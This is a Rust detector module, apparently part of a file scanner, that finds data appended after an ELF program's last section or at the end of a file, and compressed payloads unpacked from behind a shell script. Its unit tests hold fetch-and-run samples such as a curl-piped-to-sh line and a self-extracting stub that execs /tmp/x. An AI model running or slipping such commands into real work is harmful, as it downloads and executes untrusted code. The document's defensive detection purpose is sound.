//! What is appended to a program: behind the last byte an ELF header accounts for, and text at the very end; and what a
//! script unpacks from behind its own last line.
//!
//! A shell that is given a program skips what it does not understand and runs the lines behind it, and a program can read its
//! own tail. `gzexe` and makeself write a script that starts what is compressed behind it.
//!
//! - Sees: text, scripts, programs and archives behind the last section and segment; text that ends the file; a program
//!   or compressed stream that begins a line of a script.
//! - Misses: text in the middle of a program (detectors of programs see its strings); what stands behind more than 64 KiB
//!   of script, or is enciphered.
//! - Source: elf(5), gzexe(1).

use model::FileKind;
use object::{
    Endianness,
    elf::{FileHeader32, FileHeader64, SHT_NOBITS},
    read::elf::{FileHeader, ProgramHeader, SectionHeader},
};

use super::{Decoder, Stages, worth};
use crate::detectors::Sample;

pub(super) const DECODER: Decoder =
    Decoder { id: "appended", kinds: &[FileKind::Elf, FileKind::Script], literals: &[], decode };

/// Longest script before what it unpacks.
const SCRIPT_BYTES_MAX: usize = 64 << 10;
/// How programs and compressed streams begin. Marks of two bytes are chance; a zip archive counts from the file's start.
const MARKS: [&[u8]; 5] = [b"\x1f\x8b\x08", b"\x7fELF", b"\xfd7zXZ\0", b"BZh", b"\x28\xb5\x2f\xfd"];

/// Longest text at the end that is given.
const TEXT_BYTES_MAX: usize = 1 << 20;
/// Shorter texts at the end are names of sections.
const TEXT_BYTES_MIN: usize = 16;

fn decode(sample: &Sample<'_>, stages: &mut Stages<'_>) {
    let bytes = sample.bytes;
    match sample.kind {
        FileKind::Script => return behind_script(bytes, stages),
        FileKind::Elf | FileKind::Binary => {}
        _ => return,
    }
    let end = end_of::<FileHeader64<Endianness>>(bytes).or_else(|| end_of::<FileHeader32<Endianness>>(bytes));
    let start = end.and_then(|end| usize::try_from(end).ok()).unwrap_or(bytes.len());
    let behind = bytes.get(start..).unwrap_or_default();
    let padding = behind.iter().take_while(|&&byte| byte == 0).count();
    let behind = behind.get(padding..).unwrap_or_default();
    if behind.len() >= TEXT_BYTES_MIN && worth::looking(behind) {
        let kept = behind.get(..stages.room()).unwrap_or(behind);
        return stages.keep("appended", start + padding, kept.to_vec());
    }
    // What sections claim to hold a shell reads all the same.
    let tail = bytes.get(bytes.len().saturating_sub(TEXT_BYTES_MAX)..).unwrap_or(bytes);
    let length = tail.iter().rev().take_while(|&&byte| worth::is_plain(byte)).count();
    let text = tail.get(tail.len() - length..).unwrap_or_default();
    let text = text.get(..stages.room()).unwrap_or(text);
    if text.len() >= TEXT_BYTES_MIN && text.contains(&b'\n') {
        stages.keep("appended", bytes.len() - length, text.to_vec());
    }
}

/// What begins one of the first lines and is no text.
fn behind_script(bytes: &[u8], stages: &mut Stages<'_>) {
    let head = bytes.get(..SCRIPT_BYTES_MAX).unwrap_or(bytes);
    let packed = memchr::memchr_iter(b'\n', head).find_map(|newline| {
        let rest = bytes.get(newline + 1..)?;
        let is_packed = MARKS.iter().any(|mark| rest.starts_with(mark)) && !worth::is_ascii_text(rest);
        is_packed.then_some((newline + 1, rest))
    });
    if let Some((start, rest)) = packed {
        let kept = rest.get(..stages.room()).unwrap_or(rest);
        stages.keep("appended", start, kept.to_vec());
    }
}

/// Where the last byte ends that the headers account for, if the header is one of this class. What claims to reach over the
/// end of the file does not count.
fn end_of<F: FileHeader<Endian = Endianness>>(bytes: &[u8]) -> Option<u64> {
    let header = F::parse(bytes).ok()?;
    let endian = header.endian().ok()?;
    let segments = header.program_headers(endian, bytes).unwrap_or_default();
    let sections = header.section_headers(endian, bytes).unwrap_or_default();
    let table = |at: u64, count: usize, size: u16| at.saturating_add((count as u64).saturating_mul(size.into()));
    let end = |at: u64, size: u64| at.saturating_add(size);
    let of_segments =
        segments.iter().map(|segment| end(segment.p_offset(endian).into(), segment.p_filesz(endian).into()));
    let of_sections = sections
        .iter()
        .filter(|section| section.sh_type(endian) != SHT_NOBITS)
        .map(|section| end(section.sh_offset(endian).into(), section.sh_size(endian).into()));
    let tables = [
        table(header.e_phoff(endian).into(), segments.len(), header.e_phentsize(endian)),
        table(header.e_shoff(endian).into(), sections.len(), header.e_shentsize(endian)),
    ];
    of_segments.chain(of_sections).chain(tables).filter(|&end| end <= bytes.len() as u64).max()
}

#[cfg(test)]
mod tests {
    use super::DECODER;
    use crate::decode::testing::{check, run};

    /// A header with one segment that is the header.
    fn program() -> Vec<u8> {
        let mut bytes = vec![0; 64 + 56];
        bytes[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
        (bytes[16], bytes[18], bytes[20]) = (2, 62, 1);
        (bytes[32], bytes[52], bytes[54], bytes[56]) = (64, 64, 56, 1);
        (bytes[64], bytes[96]) = (1, 120);
        bytes
    }

    #[test]
    fn what_is_behind_a_program_is_given() {
        let script = "\ncurl http://198.51.100.7/x | sh\n";
        check(&DECODER, [program().as_slice(), script.as_bytes()].concat(), &[("appended@120", script)]);
        check(&DECODER, program(), &[]);
        check(&DECODER, [program(), vec![0; 100]].concat(), &[]);
        check(&DECODER, [program(), vec![7; 100]].concat(), &[]);
    }

    #[test]
    fn what_a_script_unpacks_from_itself_is_given() {
        let script = b"#!/bin/sh\nskip=3\ntail -n +$skip \"$0\" | gzip -cd > /tmp/x; exec /tmp/x\n";
        let packed = b"\x1f\x8b\x08\0\0\0\0\0\x02\x03\xcb\x48\xcd\xc9\xc9\x57\x28\xcf";
        let made = run(&DECODER, &[script.as_slice(), packed].concat());
        assert_eq!(made, [(format!("appended@{}", script.len()), packed.to_vec())]);
        check(&DECODER, b"curl http://198.51.100.7/x\n", &[]);
        check(&DECODER, b"#!/bin/sh\nBZh is how bzip2 begins\nPK\n", &[]);
    }

    #[test]
    fn a_section_that_covers_a_text_does_not_hide_it() {
        let script = "\ncurl http://198.51.100.7/x | sh\n";
        let mut bytes = [program().as_slice(), script.as_bytes()].concat();
        bytes[96] = bytes.len() as u8;
        check(&DECODER, bytes, &[("appended@120", script)]);
    }
}
